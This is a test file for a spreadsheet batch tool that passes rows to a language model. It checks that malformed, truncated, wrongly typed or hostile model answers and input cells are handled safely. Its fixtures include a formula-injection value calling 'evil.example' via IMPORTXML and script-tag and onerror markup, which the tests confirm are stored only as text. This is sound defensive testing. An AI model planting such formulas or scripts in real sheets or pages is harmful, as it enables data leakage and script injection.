// The bad-input catalogue, end to end through the real Apps Script project: hostile or broken
// cells in the input sheet, and model answers that are not JSON, truncated, wrongly typed, with
// extra fields, or carrying a formula or a script. Each ends in a clear state that names the row
// and the field; nothing becomes a formula; nothing written is lost.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { simulatedJob, outputs } from '../apps-script-runtime/jobs.mjs';
import { enter } from '../../apps-script-runtime/workbook.mjs';

const skip = (process.env.ROWBATCH_HOST || 'node') !== 'node' && 'runs once, with the Node host';
const ok = (r) => assert.ok(r.ok, JSON.stringify(r.error));

/** The model's answer for a key, changed: `always` on every attempt, else on the first only. */
const MUTATIONS = {
  'SIM-00001': { always: true, change: (a) => ({ ...a, teachingPoint: '=IMPORTXML("http://evil.example","//a")' }) },
  'SIM-00002': { always: true, change: (a) => ({ ...a, teachingPoint: '<script>alert(1)</script><img src=x onerror=alert(2)>' }) },
  'SIM-00003': { always: false, change: (a) => ({ ...a, extra: 'not in the schema' }) },
  'SIM-00004': { always: true, change: (a) => ({ ...a, initialVitals: { ...a.initialVitals, HR: 'ninety' } }) },
  'SIM-00005': { always: true, text: () => 'Sure! Here are the vitals you asked for: HR ninety, BP normal.' },
  'SIM-00006': { always: true, truncate: true },
  // Text that Sheets would retype (a date, a percentage, a number with a comma, TRUE).
  'SIM-00007': { always: true, change: (a) => ({ ...a, teachingPoint: '1/2' }) },
  'SIM-00008': { always: true, change: (a) => ({ ...a, teachingPoint: '12%' }) },
  'SIM-00009': { always: true, change: (a) => ({ ...a, teachingPoint: '2026-01-02' }) },
  'SIM-00010': { always: true, change: (a) => ({ ...a, teachingPoint: 'TRUE' }) },
};

function job() {
  const j = simulatedJob({ rows: 12, limits: { waveSize: 20 } });
  const seen = new Map();
  const inner = j.rt.provider;
  j.rt.provider = async (req, at) => {
    const res = await inner(req, at);
    const key = /Case (SIM-\d+)/.exec(JSON.parse(req.body).messages.at(1)?.content ?? '')?.[1];
    const m = MUTATIONS[key];
    if (!m || res.status !== 200) return res;
    const n = (seen.get(key) ?? 0) + 1;
    seen.set(key, n);
    if (!m.always && n > 1) return res;
    const body = JSON.parse(res.body);
    const msg = body.choices[0].message;
    if (m.text) msg.content = m.text();
    else if (m.truncate) { msg.content = msg.content.slice(0, 40); body.choices[0].finish_reason = 'length'; }
    else msg.content = JSON.stringify(m.change(JSON.parse(msg.content.replace(/^```json\n|\n```$/g, ''))));
    return { ...res, body: JSON.stringify(body) };
  };
  return j;
}

test('model answers: formulas and markup stay text, extra fields and wrong types are re-asked, failures name the field', { skip }, async () => {
  const { rt, spec } = job();
  ok(await rt.run('rowbatchRun'));
  (await rt.runTriggers({ maxRuns: 20 })).forEach(ok);
  const sheet = rt.workbook.sheet(spec.output.sheet);
  const header = sheet.rows[0];
  const col = (name) => header.indexOf(name);
  const byKey = new Map(sheet.rows.slice(1).map((r, i) => [r[0], { r, row: i + 1 }]));
  const status = (k) => byKey.get(k).r[3];
  const note = (k) => String(byKey.get(k).r[4]);

  // A formula from the model is written as text (a leading apostrophe), never as a formula.
  assert.equal(status('SIM-00001'), 'done');
  assert.equal(byKey.get('SIM-00001').r[col('teachingPoint')], '=IMPORTXML("http://evil.example","//a")');
  assert.equal(sheet.formula(byKey.get('SIM-00001').row, col('teachingPoint')), '', 'no formula in the cell');
  assert.equal(sheet.formulas.size, 0, 'no formula anywhere in the output sheet');
  // Markup is just text in a cell.
  assert.equal(byKey.get('SIM-00002').r[col('teachingPoint')], '<script>alert(1)</script><img src=x onerror=alert(2)>');
  // An extra field: re-asked once, then answered; no column for it.
  assert.equal(status('SIM-00003'), 'done');
  assert.equal(col('extra'), -1);
  // Wrong type every time: failed, naming the field.
  assert.equal(status('SIM-00004'), 'failed');
  assert.match(note('SIM-00004'), /initialVitals\.HR/);
  // Not JSON every time: failed, saying so.
  assert.equal(status('SIM-00005'), 'failed');
  assert.match(note('SIM-00005'), /not JSON/);
  // Truncated: failed, naming the setting to raise.
  assert.equal(status('SIM-00006'), 'failed');
  assert.match(note('SIM-00006'), /cut off at provider\.maxOutputTokens \(900\)/);
  // Text that Sheets would read as a date, a number or a boolean stays the model's text.
  for (const [key, text] of [['SIM-00007', '1/2'], ['SIM-00008', '12%'], ['SIM-00009', '2026-01-02'], ['SIM-00010', 'TRUE']]) {
    assert.equal(status(key), 'done', key);
    assert.equal(byKey.get(key).r[col('teachingPoint')], text, key);
  }
  // Every other row is answered; one output row per key.
  for (const [key, rows] of outputs(rt, spec)) assert.equal(rows.length, 1, key);
  assert.equal([...byKey.values()].filter((x) => x.r[3] === 'done').length, 9);
});

test('input cells: formulas, merged cells, 50,000 characters, emoji, RTL text and markup', { skip }, async () => {
  const { rt, spec, sent } = simulatedJob({ rows: 6, limits: { waveSize: 20 } });
  const input = rt.workbook.sheet(spec.input.sheet);
  // A formula in Title: the script reads its value (a number), which is not a title.
  input.set(1, 1, enter('=1+1'));
  // A merged Age cell over rows 3–4: Sheets gives the value in the first row only.
  input.set(3, 2, { value: '' });
  input.set(4, 1, { value: 'مريض مع ألم في الصدر 🫀 — chest pain' });
  input.set(5, 3, { value: `Long history: ${'x'.repeat(49_980)}` });
  input.set(6, 3, { value: '<b>bold</b> <script>alert(1)</script> presentation text' });
  ok(await rt.run('rowbatchRun'));
  (await rt.runTriggers({ maxRuns: 20 })).forEach(ok);
  const out = outputs(rt, spec);
  const report = (await rt.run('rowbatchReport')).value;
  const excluded = report.summary.excluded.map((e) => `${e.reason} @ ${e.sheetRows.join(',')}`).join('\n');
  assert.match(excluded, /Title: expected at least 3 characters, found 1 @ 2/, "the formula's value (2) is not a title");
  assert.match(excluded, /Age: required, but the cell is empty @ 4/);
  for (const key of ['SIM-00004', 'SIM-00005', 'SIM-00006']) assert.equal(out.get(key)?.[0].status, 'done', key);
  assert.equal(sent.get('SIM-00001'), undefined, 'an invalid row is never sent');
  assert.equal(sent.get('SIM-00003'), undefined);
});

test('an empty input sheet (a header only) finishes at once with nothing sent; no header is a clear error', { skip }, async () => {
  const { rt, spec, fake } = simulatedJob({ rows: 0 });
  const r = await rt.run('rowbatchRun');
  ok(r);
  assert.equal(r.value.finished, true);
  assert.equal(fake.stats.requests, 0);
  assert.equal(rt.triggers.length, 0);
  rt.workbook.sheet(spec.input.sheet).rows = [];
  const bad = await rt.run('rowbatchRun');
  assert.equal(bad.ok, false);
  assert.match(bad.error.message, /Case_ID/);
});

test('a workbook at the 10-million-cell limit: the write fails clearly, and after room is made the run finishes with nothing lost', { skip }, async () => {
  const { rt, spec } = simulatedJob({ rows: 20, limits: { waveSize: 20 } });
  const filler = rt.workbook.insert('Archive');
  // An empty grid counts: one row as wide as the spreadsheet has room for, 50 cells to spare.
  filler.gridRows = 1;
  filler.gridColumns = 0;
  filler.gridColumns = 10_000_000 - rt.workbook.cellCount() - 50;
  const first = await rt.run('rowbatchRun');
  assert.equal(first.ok, false);
  assert.match(first.error.message, /above the limit of 10000000 cells/);
  assert.deepEqual(outputs(rt, spec).size, 0);
  // The user makes room; the watchdog set before the failure continues the run.
  rt.workbook.sheets = rt.workbook.sheets.filter((s) => s.name !== 'Archive');
  (await rt.runTriggers({ maxRuns: 20 })).forEach(ok);
  const out = outputs(rt, spec);
  assert.equal(out.size, 20);
  for (const [key, rows] of out) assert.equal(rows.length, 1, key);
  assert.equal(rt.triggers.length, 0);
});
